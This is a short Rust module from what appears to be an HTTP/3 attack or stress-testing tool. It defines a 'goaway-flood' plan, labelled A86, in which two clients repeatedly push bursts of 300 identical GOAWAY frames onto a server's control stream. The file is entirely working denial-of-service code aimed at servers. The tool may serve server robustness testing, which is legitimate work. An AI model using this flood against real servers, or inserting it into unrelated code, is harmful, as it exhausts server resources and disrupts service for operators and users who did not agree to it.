//! Endless GOAWAY frames on the control stream.

use crate::attack::{Plan, Victim};
use crate::http;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "goaway-flood",
    labels: &["A86"],
    summary: "endless GOAWAY frames, all with the same push ID",
    victim: Victim::Server,
    make: || Box::new(goaway_flood()),
};

fn goaway_flood() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        let bytes = http::frame(http::GOAWAY, &[0]).repeat(300);
        for _ in 0..BURST {
            progress.push_control(connection, &bytes);
        }
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 8;
